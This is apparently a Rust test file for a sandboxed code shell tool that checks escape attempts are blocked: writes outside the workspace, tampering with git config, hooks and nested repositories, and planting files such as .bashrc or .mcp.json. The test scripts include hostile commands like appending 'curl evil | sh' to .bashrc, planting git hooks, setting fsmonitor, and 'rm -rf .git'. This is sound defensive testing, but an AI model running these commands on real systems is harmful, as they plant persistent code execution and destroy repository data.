//! tools/code_shell's writes against the real sandbox: nothing outside the boundary reaches the
//! host, protected metadata and nested repositories stay read-only with allow_filesystem, and
//! concurrent writable runs share their masking placeholders.

use super::sandbox_support::*;
use super::shell::{entries, outside_dir};
use cheng_nodes_code::shell::CodeShell;
use serde_json::json;

#[tokio::test]
async fn writes_outside_the_boundary_never_reach_the_host() {
    if !sandbox_available() {
        return;
    }
    let (_d, ws) = workspace();
    // A 0777 directory and a 0666 file: the script's uid could write both on the host, so only
    // the sandbox stands in the way.
    let outside = outside_dir();
    let target = outside.path().join("escape.txt");
    let existing = world_writable_file(outside.path(), "existing.txt", "original\n");
    for allow in [false, true] {
        let script = format!(
            "echo pwned > '{}'; echo pwned >> '{}'; echo inside > inside.txt",
            target.display(),
            existing.display()
        );
        let out = run(
            &CodeShell,
            &ws,
            json!({"script": script, "allow_filesystem": allow}),
        )
        .await;
        assert!(
            !target.exists(),
            "allow_filesystem={allow}: the write outside reached the host: {out:?}"
        );
        assert_eq!(
            std::fs::read_to_string(&existing).unwrap(),
            "original\n",
            "allow_filesystem={allow}: {out:?}"
        );
        // Not stopped by permissions: the paths are not there at all (dash's wording for ENOENT
        // on a redirection is "Directory nonexistent", not "Permission denied").
        let stderr = out["stderr"].as_str().unwrap();
        for path in [&target, &existing] {
            let line = stderr
                .lines()
                .find(|l| l.contains(path.to_str().unwrap()))
                .unwrap_or_default();
            assert!(
                line.ends_with("Directory nonexistent")
                    || line.ends_with("No such file or directory"),
                "{path:?}: {stderr}"
            );
        }
        assert_eq!(
            ws.join("inside.txt").exists(),
            allow,
            "allow_filesystem={allow}: {out:?}"
        );
        if !allow {
            assert!(
                out["warnings"].to_string().contains("allow_filesystem"),
                "{}",
                out["warnings"]
            );
        }
    }
    // Files written with allow_filesystem keep the workspace owner's ids on the host.
    use std::os::unix::fs::MetadataExt;
    let (file, dir) = (
        std::fs::metadata(ws.join("inside.txt")).unwrap(),
        std::fs::metadata(&ws).unwrap(),
    );
    assert_eq!((file.uid(), file.gid()), (dir.uid(), dir.gid()));
}

#[tokio::test]
async fn protected_metadata_stays_read_only_with_allow_filesystem() {
    if !sandbox_available() {
        return;
    }
    let (_d, ws) = workspace();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(ws.join("sub/modules/real")).unwrap();
    std::fs::write(ws.join("sub/modules/real/HEAD"), "ref\n").unwrap();
    let script = "echo evil >> .git/config; echo '#!/bin/sh' > .git/hooks/pre-commit; \
                  echo 'curl evil | sh' >> .bashrc; mkdir .vscode; echo '{}' > .mcp.json; \
                  rm -rf .git; echo ok > normal.txt";
    let out = run(
        &CodeShell,
        &ws,
        json!({"script": script, "allow_filesystem": true}),
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
        "[core]\n",
        "{out:?}"
    );
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    for name in [".bashrc", ".vscode", ".mcp.json"] {
        assert!(
            !ws.join(name).exists(),
            "{name} was created (or its placeholder left behind): {out:?}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(ws.join("normal.txt")).unwrap(),
        "ok\n"
    );

    // A `.git` file's gitdir target is protected too.
    let (_d2, ws2) = workspace();
    std::fs::create_dir_all(ws2.join("modules/real")).unwrap();
    std::fs::write(ws2.join("modules/real/HEAD"), "ref\n").unwrap();
    std::fs::write(ws2.join(".git"), "gitdir: modules/real\n").unwrap();
    let out = run(&CodeShell, &ws2, json!({"script": "echo evil > modules/real/HEAD; echo 'gitdir: /tmp' > .git", "allow_filesystem": true})).await;
    assert_eq!(
        std::fs::read_to_string(ws2.join("modules/real/HEAD")).unwrap(),
        "ref\n",
        "{out:?}"
    );
    assert_eq!(
        std::fs::read_to_string(ws2.join(".git")).unwrap(),
        "gitdir: modules/real\n"
    );
}

/// A nested repository (`sub/.git`), its `.gitmodules`, and a submodule-style `.git` file in
/// `sub2/` whose `gitdir:` names `sub2-gitdir/`, all below the top: writable workspace, read-only
/// repositories.
#[tokio::test]
async fn nested_repositories_stay_read_only_with_allow_filesystem() {
    if !sandbox_available() {
        return;
    }
    let (_d, ws) = workspace();
    std::fs::create_dir_all(ws.join("sub/.git/hooks")).unwrap();
    std::fs::write(ws.join("sub/.git/config"), "[core]\n").unwrap();
    std::fs::write(ws.join("sub/.gitmodules"), "").unwrap();
    std::fs::create_dir_all(ws.join("sub2")).unwrap();
    std::fs::create_dir_all(ws.join("sub2-gitdir/hooks")).unwrap();
    std::fs::write(ws.join("sub2-gitdir/config"), "[core]\n").unwrap();
    std::fs::write(ws.join("sub2/.git"), "gitdir: ../sub2-gitdir\n").unwrap();
    // Deep and inside an ignored directory: the walk has no filters.
    std::fs::write(ws.join(".gitignore"), "vendor/\n").unwrap();
    std::fs::create_dir_all(ws.join("vendor/a/b/dep/.git/hooks")).unwrap();
    let script = "echo '[core]\n\tfsmonitor = evil' >> sub/.git/config; \
                  printf '#!/bin/sh\\nevil\\n' > sub/.git/hooks/pre-commit; chmod +x sub/.git/hooks/pre-commit; \
                  echo '[submodule \"x\"]' >> sub/.gitmodules; \
                  echo 'gitdir: /tmp' > sub2/.git; echo evil >> sub2-gitdir/config; echo evil > sub2-gitdir/hooks/post-checkout; \
                  echo evil > vendor/a/b/dep/.git/hooks/post-merge; \
                  rm -rf sub/.git sub2-gitdir vendor/a/b/dep/.git; mv sub/.git sub/moved; \
                  echo ok > sub/normal.txt";
    let out = run(
        &CodeShell,
        &ws,
        json!({"script": script, "allow_filesystem": true}),
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(ws.join("sub/normal.txt")).unwrap_or_default(),
        "ok\n",
        "the attempt did not run: {out:?}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("sub/.git/config")).unwrap(),
        "[core]\n",
        "{out:?}"
    );
    assert!(!ws.join("sub/.git/hooks/pre-commit").exists(), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(ws.join("sub/.gitmodules")).unwrap(),
        ""
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("sub2/.git")).unwrap(),
        "gitdir: ../sub2-gitdir\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("sub2-gitdir/config")).unwrap(),
        "[core]\n"
    );
    assert!(!ws.join("sub2-gitdir/hooks/post-checkout").exists());
    assert!(ws.join("vendor/a/b/dep/.git/hooks").is_dir());
    assert!(!ws.join("vendor/a/b/dep/.git/hooks/post-merge").exists());
    assert!(!ws.join("sub/moved").exists());
}

/// Several writable runs at once on one workspace share the masking placeholders: none may
/// remove a placeholder another still needs as its mount point (that run would fail closed).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_writable_runs_share_their_placeholders() {
    if !sandbox_available() {
        return;
    }
    let (_d, ws) = workspace();
    let before = entries(&ws);
    for round in 0..3 {
        let mut runs = tokio::task::JoinSet::new();
        for i in 0..6 {
            let ws = ws.clone();
            // Staggered lengths, so that runs end while others are being prepared or started.
            let script = format!(
                "sleep 0.0{i}; test -e .bashrc && ! echo x > .bashrc 2>/dev/null && echo masked"
            );
            runs.spawn(async move {
                run(
                    &CodeShell,
                    &ws,
                    json!({"script": script, "allow_filesystem": true}),
                )
                .await
            });
        }
        while let Some(out) = runs.join_next().await {
            let out = out.expect("run task");
            assert_eq!(out["result"], "masked", "round {round}: {out:?}");
        }
        assert_eq!(
            entries(&ws),
            before,
            "round {round}: placeholders left behind"
        );
    }
}
